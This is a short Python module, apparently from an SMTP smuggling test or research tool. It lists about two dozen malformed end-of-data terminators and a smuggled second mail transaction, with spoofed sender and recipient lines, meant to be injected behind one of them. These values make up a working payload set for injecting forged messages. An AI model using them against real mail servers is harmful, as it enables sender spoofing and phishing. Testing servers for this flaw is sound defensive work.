"""The published end-of-data variants, and the envelope that is smuggled behind them."""

ENDINGS = [b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\n.\r", b"\r.\n", b"\r\n\x00.\r\n", b"\r\n.\x00\r\n", b"\n\r\n.\n",
           b"\r\r\n.\r\r\n", b"\r\n.\r\r\n", b"\r\n.\n\r\n", b"\n\n.\n\n", b"\r\n.\x0b\r\n", b"\r\n. \r\n", b"\r\n..\r\n", b"\r\n.\r\x00\n",
           b"\r\x00\n.\r\x00\n", b"\x85.\x85", b"\xe2\x80\xa8.\xe2\x80\xa8", b"\r\n.\x1a\r\n"]
SMUGGLED = b"MAIL FROM:<admin@example.net>\r\nRCPT TO:<victim@example.net>\r\nDATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n"
